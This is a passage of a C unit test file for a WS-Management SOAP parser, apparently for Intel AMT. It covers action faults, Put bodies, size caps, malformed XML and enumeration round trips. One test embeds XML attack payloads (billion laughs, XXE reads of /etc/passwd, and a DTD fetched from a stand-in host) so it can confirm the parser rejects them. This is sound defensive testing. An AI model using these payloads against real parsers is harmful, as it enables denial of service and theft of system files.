	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_REPLY
					      "<wsa:MessageID>a<b/>c</wsa:MessageID>",
					      "")),
			 -PP_EINVAL);
	assert_err_has(&f->err, "nested");
}

#define PUT_HDR "<wsa:Action>" PP_WSMAN_ACTION_PUT "</wsa:Action>" H_TO H_URI H_ID H_REPLY

/* Renew is not in the subset; its fault carries the request's MessageID. */
static void actions_renew_not_supported(struct fx *f)
{
	/* Renew is not in the subset (Enumerate, Pull and Release are). */
	assert_int_equal(
	    parse_doc(f, get_doc("<wsa:Action>http://schemas.xmlsoap.org/ws/2004/09/enumeration/"
				 "Renew</wsa:Action>" H_TO H_URI H_ID H_REPLY,
				 "")),
	    -PP_EPROTO);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_ACTION_NOT_SUPPORTED);
	assert_string_equal(f->req.message_id, "uuid:00000000-8086-0000-0000-000000000001");
	int status = 0;
	assert_int_equal(
	    pp_wsman_fault_build(&f->req, f->req.fault, NULL, &f->reply, &status, &f->err), 0);
	assert_int_equal(status, 400);
	assert_non_null(strstr(text(&f->reply), "uuid:00000000-8086-0000-0000-000000000001"));
}

/* A method of another resource is not a method of this one. */
static void actions_foreign_method(struct fx *f)
{
	assert_int_equal(
	    parse_doc(f, get_doc("<wsa:Action>" PP_AMT_URI_AUTHORIZATION_SERVICE
				 "/SetAdminAclEntryEx</wsa:Action>" H_TO H_URI H_ID H_REPLY,
				 "")),
	    -PP_EPROTO);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_ACTION_NOT_SUPPORTED);
}

/* Get with a body element: invalid parameter. */
static void actions_get_with_body(struct fx *f)
{
	/* Get with a body element. */
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY, "<x/>")),
			 -PP_EINVAL);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_PARAMETER);
}

/* Put bodies: wrong class, wrong namespace, nested property, foreign property,
 * two, mixed text; CDATA and character references are text. */
static void actions_put_bodies(struct fx *f)
{
	const char *ns = PP_AMT_URI_GENERAL_SETTINGS;
	char body[1024];

	/* Put: wrong class, wrong namespace, nested property, foreign property, two. */
	snprintf(body, sizeof(body), "<h:AMT_Other xmlns:h=\"%s\"/>", ns);
	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
	assert_err_has(&f->err, "AMT_Other");
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_PARAMETER);
	assert_int_equal(
	    parse_doc(f, get_doc(PUT_HDR, "<h:AMT_GeneralSettings xmlns:h=\"urn:x\"/>")),
	    -PP_EINVAL);
	assert_err_has(&f->err, "namespace");
	snprintf(body, sizeof(body),
		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"><h:HostName><h:x/></h:HostName>"
		 "</h:AMT_GeneralSettings>",
		 ns);
	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
	assert_err_has(&f->err, "nested");
	snprintf(
	    body, sizeof(body),
	    "<h:AMT_GeneralSettings xmlns:h=\"%s\"><z:HostName xmlns:z=\"urn:z\">a</z:HostName>"
	    "</h:AMT_GeneralSettings>",
	    ns);
	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
	assert_err_has(&f->err, "urn:z");
	snprintf(body, sizeof(body),
		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"/><h:AMT_GeneralSettings xmlns:h=\"%s\"/>",
		 ns, ns);
	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
	assert_err_has(&f->err, "more than one");
	snprintf(body, sizeof(body),
		 "<h:AMT_GeneralSettings xmlns:h=\"%s\">text<h:HostName>a</h:HostName>"
		 "</h:AMT_GeneralSettings>",
		 ns);
	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
	/* CDATA and character references are text like any other. */
	snprintf(body, sizeof(body),
		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"><h:HostName><![CDATA[a<b]]>&#x41;&lt;"
		 "<!-- c --></h:HostName></h:AMT_GeneralSettings>",
		 ns);
	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), 0);
	assert_string_equal(pp_wsman_props_get(&f->req.params, "HostName"), "a<bA<");
}

/* A Put property over the value cap. */
static void actions_put_value_over_cap(struct fx *f)
{
	const char *ns = PP_AMT_URI_GENERAL_SETTINGS;

	/* A property over the value cap. */
	static char huge[PP_WSMAN_VALUE_MAX + 512];
	static char hdoc[PP_WSMAN_VALUE_MAX + 2048];
	memset(huge, 'q', PP_WSMAN_VALUE_MAX + 1);
	huge[PP_WSMAN_VALUE_MAX + 1] = '\0';
	snprintf(hdoc, sizeof(hdoc),
		 "<s:Envelope" NS_DECL "><s:Header>" PUT_HDR "</s:Header><s:Body>"
		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"><h:HostName>%s</h:HostName>"
		 "</h:AMT_GeneralSettings></s:Body></s:Envelope>",
		 ns, huge);
	assert_int_equal(parse_doc(f, hdoc), -PP_ETOOBIG);
	assert_err_has(&f->err, "HostName");
	assert_int_equal(f->req.params.count, 0);
}

static void test_actions_and_bodies(void **state)
{
	struct fx *f = *state;

	actions_renew_not_supported(f);
	actions_foreign_method(f);
	actions_get_with_body(f);
	actions_put_bodies(f);
	actions_put_value_over_cap(f);
}

/* ---- hostile and broken documents ---- */

static void test_oversize_refused(void **state)
{
	struct fx *f = *state;
	size_t n = PP_WSMAN_DOC_MAX + 1;
	char *big = malloc(n);
	assert_non_null(big);
	memset(big, ' ', n);
	memcpy(big, "<a>", 3);
	assert_int_equal(pp_wsman_request_parse(big, n, &f->req, &f->err), -PP_ETOOBIG);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_ENCODING_LIMIT);
	assert_err_has(&f->err, "cap");
	assert_int_equal(
	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
	    0);
	assert_int_equal(pp_wsman_response_parse(&f->call, big, n, &f->resp, &f->err), -PP_ETOOBIG);
	free(big);
	assert_int_equal(pp_wsman_request_parse("", 0, &f->req, &f->err), -PP_EINVAL);
}

static void test_malformed_and_namespaces(void **state)
{
	struct fx *f = *state;
	static const char *const broken[] = {
	    "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\">",
	    "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body></s:Envelope>",
	    "not xml at all",
	    "<a>&undefined;</a>",
	    "<a>\x01</a>",
	    "<a>\xc3\x28</a>",
	    "<a/><b/>",
	};
	for (size_t i = 0; i < sizeof(broken) / sizeof(broken[0]); i++) {
		assert_int_equal(parse_doc(f, broken[i]), -PP_EINVAL);
		assert_err_has(&f->err, "malformed XML");
		assert_int_equal(f->req.fault, PP_WSMAN_FAULT_SCHEMA_VALIDATION);
	}
	/* SOAP 1.1 envelope namespace. */
	assert_int_equal(parse_doc(f, "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/"
				      "envelope/\"><s:Header/><s:Body/></s:Envelope>"),
			 -PP_EINVAL);
	assert_err_has(&f->err, "namespace");
	assert_err_has(&f->err, "SOAP 1.2");
	assert_int_equal(parse_doc(f, "<Envelope><Header/><Body/></Envelope>"), -PP_EINVAL);
	assert_err_has(&f->err, "namespace");
	assert_int_equal(parse_doc(f, "<x:Other xmlns:x=\"urn:x\"/>"), -PP_EINVAL);
	assert_err_has(&f->err, "root element");
	/* Extra element in the envelope; Body before Header. */
	snprintf(doc_buf, sizeof(doc_buf),
		 "<s:Envelope" NS_DECL "><s:Header/><s:Body/><s:Body/></s:Envelope>");
	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
	assert_err_has(&f->err, "unexpected element");
	snprintf(doc_buf, sizeof(doc_buf),
		 "<s:Envelope" NS_DECL "><s:Body/><s:Header/></s:Envelope>");
	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
	/* Responses are held to the same rules. */
	assert_int_equal(
	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
	    0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, broken[0], strlen(broken[0]), &f->resp, &f->err),
	    -PP_EINVAL);
	snprintf(doc_buf, sizeof(doc_buf),
		 "<s:Envelope" NS_DECL "><s:Header/><s:Body/></s:Envelope>");
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, doc_buf, strlen(doc_buf), &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "wsa:RelatesTo is missing");
}

static void test_entities_refused(void **state)
{
	struct fx *f = *state;
	static const char laughs[] =
	    "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE s:Envelope [\n"
	    " <!ENTITY lol \"lol\">\n"
	    " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
	    " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
	    " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
	    " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
	    " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
	    " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
	    " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
	    " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
	    " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
	    "]>\n"
	    "<s:Envelope" NS_DECL "><s:Header>" H_ACTION H_TO H_URI H_ID H_REPLY "</s:Header>"
	    "<s:Body><h:AMT_GeneralSettings xmlns:h=\"" PP_AMT_URI_GENERAL_SETTINGS "\">"
	    "<h:HostName>&lol9;</h:HostName></h:AMT_GeneralSettings></s:Body></s:Envelope>";
	static const char xxe[] =
	    "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
	    "<s:Envelope" NS_DECL "><s:Header>" H_ACTION H_TO H_URI H_ID H_REPLY "</s:Header>"
	    "<s:Body>&xxe;</s:Body></s:Envelope>";
	static const char param_xxe[] =
	    "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\"> %p;]>\n"
	    "<s:Envelope" NS_DECL "/>";
	static const char external_dtd[] =
	    "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE s:Envelope SYSTEM \"file:///etc/passwd\">\n"
	    "<s:Envelope" NS_DECL "><s:Header/><s:Body/></s:Envelope>";
	const char *const docs[] = {laughs, xxe, param_xxe, external_dtd};
	clock_t t0 = clock();
	for (size_t i = 0; i < 4; i++) {
		assert_int_equal(parse_doc(f, docs[i]), -PP_EINVAL);
		assert_err_has(&f->err, "document type declaration");
		assert_int_equal(f->req.params.count, 0);
		assert_int_equal(pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call,
						    &f->buf, &f->err),
				 0);
		assert_int_equal(
		    pp_wsman_response_parse(&f->call, docs[i], strlen(docs[i]), &f->resp, &f->err),
		    -PP_EINVAL);
		assert_null(strstr(f->err.msg, "root:"));
	}
	/* Refused up front: no expansion work at all. */
	assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 1.0);
}

static void test_helpers(void **state)
{
	(void)state;
	char realm[PP_AMT_REALM_LEN + 1];
	const uint8_t id[16] = {0xF3, 0xEB, 0x55, 0x47, 0x84, 0xE7, 0x29, 0x16,
				0x44, 0x47, 0xA8, 0x9F, 0x60, 0xB6, 0x41, 0xC5};
	pp_amt_realm_format(id, realm);
	assert_string_equal(realm, "Digest:F3EB554784E729164447A89F60B641C5");
	assert_true(pp_amt_realm_valid(realm));
	assert_false(pp_amt_realm_valid("Digest:f3eb554784e729164447a89f60b641c5"));
	assert_false(pp_amt_realm_valid("Digest:F3EB"));
	assert_string_equal(pp_wsman_class_name(PP_AMT_URI_GENERAL_SETTINGS),
			    "AMT_GeneralSettings");
	assert_string_equal(pp_wsman_class_name(PP_CIM_URI_SOFTWARE_IDENTITY),
			    "CIM_SoftwareIdentity");
	assert_int_equal(pp_wsman_fault_http_status(PP_WSMAN_FAULT_OTHER), 500);
	assert_true(pp_wsman_name_valid("SetTLSPSK_INPUT"));
	assert_false(pp_wsman_name_valid(
	    "a123456789012345678901234567890123456789012345678901234567890123456789"));
}

/* ---- WS-Enumeration ---- */

#define SW PP_CIM_URI_SOFTWARE_IDENTITY

/* Intel's library (wsman-messages), verbatim but for the MessageID. */
#define INTEL_HEAD(action, uri)                                                                    \
	"<?xml version=\"1.0\" encoding=\"utf-8\"?><Envelope "                                     \
	"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "                                 \
	"xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" "                                          \
	"xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" "                            \
	"xmlns:w=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\" "                              \
	"xmlns=\"http://www.w3.org/2003/05/soap-envelope\"><Header><a:Action>" action              \
	"</a:Action><a:To>/wsman</a:To><w:ResourceURI>" uri                                        \
	"</w:ResourceURI><a:MessageID>1</a:MessageID><a:ReplyTo><a:Address>"                       \
	"http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</a:Address></"            \
	"a:ReplyTo><w:OperationTimeout>PT60S</w:OperationTimeout></Header>"

static void sw_item(struct pp_wsman_props *p, const char *id, const char *version)
{
	pp_wsman_props_init(p);
	assert_int_equal(pp_wsman_props_add(p, "InstanceID", id, NULL), 0);
	assert_int_equal(pp_wsman_props_add(p, "IsEntity", "true", NULL), 0);
	assert_int_equal(pp_wsman_props_add(p, "VersionString", version, NULL), 0);
}

static void test_intel_enum_envelopes(void **state)
{
	struct fx *f = *state;
	static const char en[] = INTEL_HEAD(
	    PP_WSMAN_ACTION_ENUMERATE,
	    SW) "<Body><Enumerate xmlns=\"http://schemas.xmlsoap.org/ws/2004/09/enumeration\" "
		"/></Body></Envelope>";
	static const char pull[] = INTEL_HEAD(
	    PP_WSMAN_ACTION_PULL,
	    SW) "<Body><Pull xmlns=\"http://schemas.xmlsoap.org/ws/2004/09/enumeration\">"
		"<EnumerationContext>CTX-1</EnumerationContext><MaxElements>999</MaxElements>"
		"<MaxCharacters>99999</MaxCharacters></Pull></Body></Envelope>";
	static const char method[] = INTEL_HEAD(
	    PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE "/GetUuid",
	    PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE) "<Body><h:GetUuid_INPUT "
							"xmlns:h="
							"\"" PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE
							"\"></h:GetUuid_INPUT></Body></Envelope>";

	assert_int_equal(pp_wsman_request_parse(en, strlen(en), &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_ENUMERATE);
	assert_false(f->req.optimize);
	assert_string_equal(f->req.message_id, "1");
	assert_int_equal(pp_wsman_request_parse(pull, strlen(pull), &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_PULL);
	assert_string_equal(f->req.enum_context, "CTX-1");
	assert_int_equal(f->req.max_elements, 999);
	assert_int_equal(f->req.max_characters, 99999);
	assert_int_equal(pp_wsman_request_parse(method, strlen(method), &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_INVOKE);
	assert_string_equal(f->req.method, "GetUuid");
	/* Every answer names the resource, as firmware does. */
	assert_int_equal(pp_wsman_output_build(&f->req, 0, NULL, &f->reply, &f->err), 0);
	assert_non_null(strstr(text(&f->reply),
			       "ResourceURI>" PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE
			       "</wsman:ResourceURI>"));
}

/* Enumerate: the request parses, the answer carries a context and no items. */
static void roundtrip_enumerate(struct fx *f)
{
	/* Enumerate -> context */
	assert_int_equal(pp_wsman_build_enumerate(TO, SW, &f->call, &f->buf, &f->err), 0);
	assert_int_equal(f->call.op, PP_WSMAN_OP_ENUMERATE);
	assert_string_equal(f->call.action, PP_WSMAN_ACTION_ENUMERATE);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_ENUMERATE);
	assert_string_equal(f->req.body_name, "Enumerate");
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, "ctx-42", NULL, 0, false, &f->reply, &f->err), 0);
	assert_non_null(strstr(text(&f->reply), "<wsman:ResourceURI>" SW "</wsman:ResourceURI>"));
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(f->resp.enum_context, "ctx-42");
	assert_false(f->resp.end_of_sequence);
	assert_int_equal(f->resp.item_count, 0);
}

/* Pull, picking the core version among three items. */
static void roundtrip_pull_and_pick(struct fx *f, struct pp_wsman_props *items)
{
	assert_int_equal(pp_wsman_build_pull(TO, SW, "ctx-42", 999, &f->call, &f->buf, &f->err), 0);
	assert_non_null(strstr(text(&f->buf), "MaxCharacters>99999<"));
	assert_int_equal(pp_wsman_call_pick(&f->call, "InstanceID", "AMT FW Core Version", &f->err),
			 0);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_PULL);
	assert_string_equal(f->req.enum_context, "ctx-42");
	assert_int_equal(f->req.max_elements, 999);
	assert_int_equal(f->req.max_characters, PP_WSMAN_PULL_MAX_CHARACTERS);
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, NULL, items, 3, true, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_int_equal(f->resp.item_count, 3);
	assert_true(f->resp.end_of_sequence);
	assert_string_equal(f->resp.enum_context, "");
	assert_true(f->resp.picked);
	assert_string_equal(f->resp.body_name, PP_CIM_SOFTWARE_IDENTITY);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "InstanceID"),
			    "AMT FW Core Version");
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "VersionString"), "16.1.25");
}

/* On the same Pull answer: no pick takes the first item; a pick not found is
 * not an error, nothing picked. */
static void roundtrip_pick_first_or_none(struct fx *f)
{
	/* No pick: the first item. Pick not found: not an error, nothing picked. */
	assert_int_equal(pp_wsman_call_pick(&f->call, NULL, NULL, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "InstanceID"), "Flash");
	assert_int_equal(pp_wsman_call_pick(&f->call, "InstanceID", "Nope", &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_false(f->resp.picked);
	assert_int_equal(f->resp.props.count, 0);
	assert_int_equal(f->resp.item_count, 3);
}

/* A mid-sequence Pull answer keeps the context. */
static void roundtrip_mid_sequence(struct fx *f, struct pp_wsman_props *items)
{
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, "ctx-43", items, 1, false, &f->reply, &f->err),
	    0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(f->resp.enum_context, "ctx-43");
	assert_false(f->resp.end_of_sequence);
}

/* Release: the answer has an empty body. */
static void roundtrip_release(struct fx *f)
{
	/* Release -> empty body */
	assert_int_equal(pp_wsman_build_release(TO, SW, "ctx-43", &f->call, &f->buf, &f->err), 0);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_RELEASE);
	assert_string_equal(f->req.enum_context, "ctx-43");
	assert_int_equal(pp_wsman_release_response_build(&f->req, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(f->resp.action, PP_WSMAN_ACTION_RELEASE "Response");
}

static void test_enumerate_pull_release_roundtrip(void **state)
{
	struct fx *f = *state;
	struct pp_wsman_props items[3];
	sw_item(&items[0], "Flash", "16.1.25");
	sw_item(&items[1], "AMT FW Core Version", "16.1.25");
	sw_item(&items[2], "Sku", "16392");

	roundtrip_enumerate(f);
	roundtrip_pull_and_pick(f, items);
	roundtrip_pick_first_or_none(f);
	roundtrip_mid_sequence(f, items);
	roundtrip_release(f);
	for (int i = 0; i < 3; i++)
		pp_wsman_props_wipe(&items[i]);
}

static void test_optimized_enumerate(void **state)
{
	struct fx *f = *state;
	struct pp_wsman_props items[2];
	sw_item(&items[0], "Flash", "16.1.25");
	sw_item(&items[1], "Sku", "16392");
	const char *doc =
	    get_doc("<wsa:Action>" PP_WSMAN_ACTION_ENUMERATE "</wsa:Action>" H_TO
		    "<wsman:ResourceURI>" SW "</wsman:ResourceURI>" H_ID H_REPLY,
		    "<n:Enumerate xmlns:n=\"" PP_WSMAN_NS_WSEN "\"><wsman:OptimizeEnumeration/>"
		    "<wsman:MaxElements>5</wsman:MaxElements></n:Enumerate>");
	assert_int_equal(parse_doc(f, doc), 0);
	assert_true(f->req.optimize);
	assert_int_equal(f->req.max_elements, 5);
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, "c1", items, 2, true, &f->reply, &f->err), 0);
	assert_non_null(strstr(text(&f->reply), "wsman:EndOfSequence"));
	assert_non_null(strstr(text(&f->reply), "<wsman:Items>"));
	/* Parsed as the answer to an Enumerate whose MessageID was the one above. */
	memset(&f->call, 0, sizeof(f->call));
	f->call.op = PP_WSMAN_OP_ENUMERATE;
	snprintf(f->call.resource_uri, sizeof(f->call.resource_uri), "%s", SW);
	snprintf(f->call.action, sizeof(f->call.action), "%s", PP_WSMAN_ACTION_ENUMERATE);
	snprintf(f->call.message_id, sizeof(f->call.message_id), "%s",
		 "uuid:00000000-8086-0000-0000-000000000001");
	assert_int_equal(pp_wsman_call_pick(&f->call, "InstanceID", "Sku", &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_true(f->resp.end_of_sequence);
	assert_int_equal(f->resp.item_count, 2);
	assert_true(f->resp.picked);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "VersionString"), "16392");
	/* A non-optimized request cannot be answered with items. */
	f->req.optimize = false;
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, "c1", items, 2, true, &f->reply, &f->err),
	    -PP_EINVAL);
	pp_wsman_props_wipe(&items[0]);
	pp_wsman_props_wipe(&items[1]);
}

static void test_enum_hostile_requests(void **state)
{
	struct fx *f = *state;
	char big[PP_WSMAN_CONTEXT_MAX + 40], body[512];
	const char *head = "<wsa:Action>" PP_WSMAN_ACTION_PULL "</wsa:Action>" H_TO
			   "<wsman:ResourceURI>" SW "</wsman:ResourceURI>" H_ID H_REPLY;
	memset(big, 'A', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';

	/* Oversized context: the WS-Enumeration fault, with our RelatesTo. */
	snprintf(body, sizeof(body),
		 "<n:Pull xmlns:n=\"" PP_WSMAN_NS_WSEN "\"><n:EnumerationContext>%s"
		 "</n:EnumerationContext></n:Pull>",
		 big);
	assert_true(parse_doc(f, get_doc(head, body)) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT);
	int status = 0;
	assert_int_equal(
	    pp_wsman_fault_build(&f->req, f->req.fault, NULL, &f->reply, &status, &f->err), 0);
	assert_int_equal(status, 500); /* s:Receiver */
	assert_non_null(strstr(text(&f->reply), "wsen:InvalidEnumerationContext"));
	assert_non_null(strstr(text(&f->reply), "uuid:00000000-8086-0000-0000-000000000001"));
	assert_non_null(strstr(text(&f->reply), "<wsman:ResourceURI>" SW));
	/* ... which a client classifies. */
	memset(&f->call, 0, sizeof(f->call));
	f->call.op = PP_WSMAN_OP_PULL;
	snprintf(f->call.resource_uri, sizeof(f->call.resource_uri), "%s", SW);
	snprintf(f->call.action, sizeof(f->call.action), "%s", PP_WSMAN_ACTION_PULL);
	snprintf(f->call.message_id, sizeof(f->call.message_id), "%s",
		 "uuid:00000000-8086-0000-0000-000000000001");
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_true(f->resp.is_fault);
	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT);

	/* Missing context; empty context; a Pull body that is no Pull. */
	assert_true(parse_doc(f, get_doc(head, "<n:Pull xmlns:n=\"" PP_WSMAN_NS_WSEN "\"/>")) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT);
	assert_true(parse_doc(f, get_doc(head, "<n:Pull xmlns:n=\"" PP_WSMAN_NS_WSEN
					       "\"><n:EnumerationContext> </n:EnumerationContext>"
					       "</n:Pull>")) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT);
	assert_true(parse_doc(f, get_doc(head, "")) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT);
	/* MaxElements 0, not a number; a filter; a nested context. */
	assert_true(parse_doc(f, get_doc(head, "<n:Pull xmlns:n=\"" PP_WSMAN_NS_WSEN
					       "\"><n:EnumerationContext>c</n:EnumerationContext>"
					       "<n:MaxElements>0</n:MaxElements></n:Pull>")) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_PARAMETER);
	assert_true(parse_doc(f, get_doc(head, "<n:Pull xmlns:n=\"" PP_WSMAN_NS_WSEN
					       "\"><n:EnumerationContext>c</n:EnumerationContext>"
					       "<n:MaxElements>x</n:MaxElements></n:Pull>")) < 0);
	assert_true(
	    parse_doc(f, get_doc(head, "<n:Pull xmlns:n=\"" PP_WSMAN_NS_WSEN
				       "\"><n:EnumerationContext><x/></n:EnumerationContext>"
				       "</n:Pull>")) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_ENUM_CONTEXT);
	assert_true(
	    parse_doc(f, get_doc("<wsa:Action>" PP_WSMAN_ACTION_ENUMERATE "</wsa:Action>" H_TO
				 "<wsman:ResourceURI>" SW "</wsman:ResourceURI>" H_ID H_REPLY,
				 "<n:Enumerate xmlns:n=\"" PP_WSMAN_NS_WSEN "\"><wsman:Filter>x"
				 "</wsman:Filter></n:Enumerate>")) < 0);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_PARAMETER);
	assert_err_has(&f->err, "Filter");

	/* Client side refuses what it cannot send. */
	assert_int_equal(pp_wsman_build_pull(TO, SW, big, 1, &f->call, &f->buf, &f->err),
			 -PP_ETOOBIG);
	assert_int_equal(pp_wsman_build_pull(TO, SW, "", 1, &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
	assert_int_equal(pp_wsman_build_pull(TO, SW, "c", 0, &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
	assert_int_equal(pp_wsman_build_release(TO, SW, NULL, &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
	assert_int_equal(pp_wsman_call_pick(&f->call, "bad name", "x", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_call_pick(&f->call, "InstanceID", big, &f->err), -PP_EINVAL);
}

/* Many items: counted, the first kept, the document stays under its cap. */
static void hostile_many_items(struct fx *f, struct pp_wsman_props *items)
{
	for (int i = 0; i < 200; i++) {
		char id[16];
		snprintf(id, sizeof(id), "i%d", i);
		sw_item(&items[i], id, "1");
	}
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, NULL, items, 200, true, &f->reply, &f->err), 0);
	assert_int_equal(pp_wsman_call_pick(&f->call, "InstanceID", "i199", &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_int_equal(f->resp.item_count, 200);
	assert_true(f->resp.picked);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "InstanceID"), "i199");
}

/* Too many for the envelope cap: refused at build time. */
static void hostile_over_envelope_cap(struct fx *f)
{
	struct pp_wsman_props *huge = calloc(120, sizeof(*huge));
	assert_non_null(huge);
	char long_value[PP_WSMAN_VALUE_MAX + 1];
	memset(long_value, 'v', PP_WSMAN_VALUE_MAX);
	long_value[PP_WSMAN_VALUE_MAX] = '\0';
	for (int i = 0; i < 120; i++) {
		pp_wsman_props_init(&huge[i]);
		assert_int_equal(pp_wsman_props_add(&huge[i], "VersionString", long_value, NULL),
				 0);
	}
	assert_int_equal(
	    pp_wsman_enum_response_build(&f->req, NULL, huge, 120, true, &f->reply, &f->err),
	    -PP_ETOOBIG);
